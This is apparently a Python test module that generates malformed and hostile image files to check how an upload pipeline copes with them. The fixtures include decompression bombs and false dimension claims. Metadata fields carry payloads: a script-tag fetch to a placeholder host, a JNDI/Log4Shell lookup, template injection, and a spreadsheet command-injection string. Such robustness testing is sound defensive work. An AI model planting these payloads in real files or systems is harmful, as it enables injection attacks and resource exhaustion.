"""Pictures that claim too much, hold too much, or are no longer whole."""

import io
import itertools
import random
import struct
import zlib
from collections.abc import Iterator
from functools import cache, partial

from PIL import ExifTags, Image

from tests import sample_files, sample_kinds
from tests.evidence.hostile import Hostile, family
from tests.sample_files import chunk, encoded, noise

MEBIBYTE = 1 << 20
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
MARKUP = "<script>fetch('http://x.example')</script>{{7*7}}${jndi:ldap://x.example}"
TOO_LARGE = (
    (100_000, 100_000),
    (16_383, 16_383),
    (65_500, 65_500),
    (20_001, 1),
    (1, 65_535),
    (10_000, 5_001),
)


def png_of(*chunks: tuple[bytes, bytes]) -> bytes:
    return PNG_MAGIC + b"".join(chunk(kind, body) for kind, body in chunks)


def header(width: int, height: int, depth: int = 8, colour: int = 2) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)


def png_with(kind: bytes, body: bytes, times: int = 1) -> bytes:
    data = sample_files.png()
    at = data.index(b"IDAT") - 4
    return data[:at] + chunk(kind, body) * times + data[at:]


def with_segment(marker: int, body: bytes, times: int = 1) -> bytes:
    """A JPEG with application segments behind its start."""
    data = sample_files.bare_jpeg()
    segment = struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body
    return data[:2] + segment * times + data[2:]


def with_exif(tiff: bytes) -> bytes:
    return with_segment(0xE1, b"Exif\0\0" + tiff)


def directory(*entries: tuple[int, int, int, int], follow: int = 0) -> bytes:
    """A TIFF header and one directory: tag, type, count and value of each entry."""
    rows = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + rows + struct.pack("<I", follow)


def claiming_boxes(data: bytes, width: int, height: int) -> bytes:
    """A HEIF file whose every spatial extent is this."""
    at = -1
    changed = bytearray(data)
    while (at := data.find(b"ispe", at + 1)) >= 0:
        changed[at + 8 : at + 16] = struct.pack(">II", width, height)
    return bytes(changed)


def gif_frames(count: int, *, screen: tuple[int, int] = (1, 1), frame: int = 1) -> bytes:
    """Frames of one colour, repeated for ever."""
    picture = (
        b"!\xf9\x04\0\0\0\0\0," + struct.pack("<HHHHB", 0, 0, frame, frame, 0) + b"\x02\x02D\x01\0"
    )
    start = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + bytes(3) + b"\xff" * 3
    return start + b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0" + picture * count + b";"


def webp_canvas(width: int, height: int) -> bytes:
    data = encoded(noise(), "WEBP", quality=80, exif=sample_files.exif())
    at = data.index(b"VP8X") + 12
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return data[:at] + size + data[at + 6 :]


def apng(frames: int, claimed: int) -> bytes:
    pictures = [noise(seed=one) for one in range(frames)]
    data = encoded(pictures[0], "PNG", save_all=True, append_images=pictures[1:])
    at = data.index(b"acTL")
    control = struct.pack(">II", claimed, 0)
    return data[: at - 4] + chunk(b"acTL", control) + data[at + 16 :]


def many_heic(count: int) -> bytes:
    pictures = [noise(32, 32, seed=one % 7) for one in range(count)]
    return encoded(pictures[0], "HEIF", save_all=True, append_images=pictures[1:], quality=20)


def of_exif(**texts: str) -> bytes:
    tags = Image.Exif()
    for name, text in texts.items():
        tags[ExifTags.Base[name]] = text
    return encoded(noise(), "JPEG", exif=tags.tobytes())


def mpf(places: int) -> bytes:
    """An index of more pictures that lie outside the file."""
    entries = struct.pack("<IIIHH", 0, 0xFFFFFFF0, 0xFFFFFFF0, 0, 0) * places
    body = directory(
        (0xB000, 7, 4, 0x30303130),
        (0xB001, 4, 1, places),
        (0xB002, 7, len(entries), 50),
    )
    return with_segment(0xE2, b"MPF\0" + body + entries)


def extended_xmp(mebibytes: int) -> bytes:
    name = b"http://ns.adobe.com/xmp/extension/\0" + b"A" * 32
    part = bytes(60_000)
    total = mebibytes * MEBIBYTE
    data = sample_files.bare_jpeg()
    segments = b"".join(
        b"\xff\xe1"
        + struct.pack(">H", len(name) + 10 + len(part))
        + name
        + struct.pack(">II", total, at)
        + part
        for at in range(0, total, len(part))
    )
    return data[:2] + segments + data[2:]


@cache
def whole() -> dict[str, bytes]:
    return {
        "jpg": sample_files.jpeg(),
        "png": sample_files.png(),
        "webp": sample_files.webp(),
        "gif": sample_kinds.gif(frames=3),
        "heic": sample_files.heic(),
        "avif": sample_kinds.avif(),
    }


def flipped(data: bytes, seed: int, count: int = 12) -> bytes:
    """Single bits turned behind the first bytes, which still say what it is."""
    chance, changed = random.Random(seed), bytearray(data)
    for _ in range(count):
        changed[chance.randrange(min(32, len(data) // 2), len(data))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def claims() -> Iterator[Hostile]:
    for width, height in TOO_LARGE:
        yield from family("claims", "a.png", partial(sample_files.png_claiming, width, height))
        if max(width, height) < 65_536:
            jpeg = partial(sample_files.jpeg_claiming, width, height)
            gif = partial(gif_frames, 1, screen=(width, height))
            yield from family("claims", "a.jpg", jpeg)
            yield from family("claims", "a.gif", gif)
        yield from family("claims", "a.webp", partial(webp_canvas, width, height))
        for name in ("heic", "avif"):
            boxes = partial(claiming_boxes, whole()[name], width, height)
            yield from family("claims", f"a.{name}", boxes)
    yield from family("claims", "a.png", partial(sample_files.png_claiming, 2**31 - 1, 2**31 - 1))
    yield from family("claims", "b.webp", partial(sample_files.webp_claiming, 16_383, 16_383))


def _two_headers() -> bytes:
    data = zlib.compress(bytes(10_000))
    return png_of(header(64, 48), header(100_000, 100_000), (b"IDAT", data), (b"IEND", b""))


def lies() -> Iterator[Hostile]:
    """Claims that pass at the door, and files that hold less, more, or something else."""
    yield from family(
        "lies",
        "a.png",
        _two_headers,
        partial(sample_files.png_claiming, 3000, 4000),
        partial(sample_files.png_claiming, 7000, 7000),
        partial(sample_files.png_claiming, 0, 0),
        lambda: png_of(header(64, 48, 16, 7), (b"IDAT", b""), (b"IEND", b"")),
        lambda: png_of(header(64, 48), (b"IDAT", zlib.compress(bytes(64 * MEBIBYTE)))),
        lambda: png_with(b"IDAT", b"", times=20_000),
    )
    yield from family(
        "lies",
        "a.jpg",
        partial(sample_files.jpeg_claiming, 3000, 4000),
        partial(sample_files.jpeg_claiming, 7000, 7000),
        partial(sample_files.jpeg_claiming, 64, 0),
        lambda: sample_files.bare_jpeg() * 500,
        lambda: b"\xff\xd8" + b"\xff" * 100_000,
        lambda: b"\xff\xd8\xff\xe0\x00\x00" + bytes(5000),
    )
    yield from family("lies", "a.webp", partial(sample_files.webp_claiming, 4000, 3000))
    yield from family("lies", "a.gif", partial(gif_frames, 1, screen=(4000, 3000), frame=65_535))


def crowds() -> Iterator[Hostile]:
    """Frames, scans and pictures without number."""
    yield from family(
        "crowds",
        "a.gif",
        partial(gif_frames, 100_000),
        partial(gif_frames, 1_000_000),
        partial(gif_frames, 1000, screen=(4000, 3000)),
        partial(gif_frames, 0),
    )
    yield from family(
        "crowds", "a.png", partial(apng, 40, 40), partial(apng, 2, 2**31 - 1), partial(apng, 3, 0)
    )
    for count in (99, 101, 1000, 20_000):
        yield from family("crowds", "a.jpg", partial(sample_files.jpeg_of_scans, count))
    yield from family("crowds", "a.heic", partial(many_heic, 40), partial(many_heic, 1000))
    yield from family("crowds", "a.avif", lambda: sample_kinds.avif(32, 32, frames=60))
    yield from family(
        "crowds",
        "b.jpg",
        lambda: encoded(noise(), "MPO", save_all=True, append_images=[noise(seed=2)] * 60),
        lambda: sample_files.jpeg_claiming(5000, 5000)[:-2] + b"\xff\xda" * 2000 + b"\xff\xd9",
    )


def stuffed() -> Iterator[Hostile]:
    """Metadata that unpacks, repeats or is a program."""
    bomb = zlib.compress(bytes(64 * MEBIBYTE))
    yield from family(
        "stuffed",
        "a.png",
        sample_files.png_with_huge_text,
        lambda: png_with(b"iTXt", b"Comment\0\1\0\0\0" + bomb),
        lambda: png_with(b"iCCP", b"icc\0\0" + bomb),
        lambda: png_with(b"zTXt", b"C\0\0" + zlib.compress(bytes(MEBIBYTE)), times=200),
        lambda: png_with(b"tEXt", b"C\0" + MARKUP.encode()),
        lambda: png_with(b"eXIf", b"MM\0*" + b"\xff" * 60),
    )
    yield from family(
        "stuffed",
        "a.jpg",
        partial(of_exif, Make=MARKUP, Model=MARKUP * 100, Software="\u202e" + MARKUP),
        partial(of_exif, Software="x" * 60_000),
        partial(of_exif, DateTime="2026:13:45 99:99:99<b>", Artist="=cmd|'/c calc'!A1"),
        partial(of_exif, Make="a\0b\x1b[31m", Model="\n\n\r%s%n"),
        lambda: with_exif(directory((0x0112, 3, 1, 65_535))),
        lambda: with_exif(directory((0x010F, 2, 0xFFFFFFFF, 8))),
        lambda: with_exif(directory((0x8769, 4, 1, 8), follow=8)),
        lambda: with_exif(directory(*((0x8825, 4, 1, 8),) * 2000)),
        lambda: with_exif(b"II*\0\xff\xff\xff\xff"),
        lambda: with_segment(0xFE, b"x" * 65_000, times=300),
        lambda: with_segment(0xE2, b"ICC_PROFILE\0\x01\xff" + bytes(60_000), times=255),
        lambda: with_segment(0xED, b"Photoshop 3.0\08BIM" + b"\xff" * 60_000, times=50),
        partial(extended_xmp, 20),
        partial(mpf, 2),
        partial(mpf, 3000),
    )


def broken() -> Iterator[Hostile]:
    """Each decoder's files, cut and with bits turned."""
    for name, keep in itertools.product(whole(), (0.05, 0.3, 0.6, 0.99)):
        cut = partial(sample_files.truncated, whole()[name], keep=keep)
        yield from family("cut", f"a.{name}", cut)
    for name, seed in itertools.product(whole(), range(8)):
        yield from family("flipped", f"a.{name}", partial(flipped, whole()[name], seed))


def foreign() -> Iterator[Hostile]:
    """Other formats under the names of pictures: no decoder is asked."""
    made = {
        image_format: partial(encoded, noise(), image_format)
        for image_format in ("TIFF", "BMP", "ICO", "PCX", "PPM", "TGA", "EPS", "SGI", "DDS")
    }
    for make, name in itertools.product(made.values(), ("a.jpg", "a.png")):
        yield from family("foreign", name, make)


def _tiff_of(size: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (size, size)).save(out, "TIFF", compression="tiff_ccitt")
    return out.getvalue()


def all_pictures() -> Iterator[Hostile]:
    yield from claims()
    yield from lies()
    yield from crowds()
    yield from stuffed()
    yield from broken()
    yield from foreign()
    yield from family("foreign", "a.jpg", partial(_tiff_of, 4000))
